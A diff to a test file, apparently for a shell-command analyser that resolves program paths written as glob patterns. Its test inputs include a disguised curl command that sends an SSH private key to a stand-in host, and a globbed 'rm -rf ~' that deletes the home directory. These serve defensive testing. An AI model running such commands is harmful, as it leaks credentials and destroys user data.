@@ -69,6 +69,9 @@ describe('a program path written as a glob', () => {
     const f = facts('/u*/b*/cu?l -d @/home/dev/.ssh/id_rsa https://x.example.net');
     expect(argvOf(f, 'curl').length).toBe(1);
     expect(f.indeterminate).toContain('glob_program_path');
+    // bash runs the first match with the other matches as arguments (`rg /bin/ri /bin/rm -rf ~`
+    // where /bin holds rg, ri and rm): the pattern stays as the word standing for them
+    expect(argvOf(facts('/???/r? -rf ~'), 'rg')).toEqual([['/bin/rg', '/???/r?', '-rf', '/home/dev']]);
   });
 
   it('a pattern no known program matches, or a relative one, stays unknown', () => {
